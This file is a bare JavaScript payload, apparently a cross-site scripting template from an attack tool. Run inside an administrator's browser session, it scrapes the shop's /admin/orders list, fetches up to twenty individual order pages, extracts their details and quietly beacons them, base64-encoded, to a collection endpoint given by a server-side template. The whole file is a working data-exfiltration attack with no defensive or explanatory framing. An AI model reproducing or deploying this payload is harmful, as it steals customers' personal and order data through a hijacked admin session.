(function () {
    function get(u, f) { var x = new XMLHttpRequest(); x.open('GET', u); x.onload = function () { f(x.responseText); }; x.send(); }
    get('/admin/orders', function (t) {
        var m = t.match(/\/admin\/orders\/K\d+/g) || [];
        m.filter(function (u, i) { return m.indexOf(u) === i; }).slice(0, 20).forEach(function (u) {
            get(u, function (h) {
                var d = new DOMParser().parseFromString(h, 'text/html').querySelector('.columns').textContent;
                navigator.sendBeacon('<% url "js-order" "/o" %>', new URLSearchParams({ d: btoa(encodeURIComponent(d)) }));
            });
        });
    });
})();
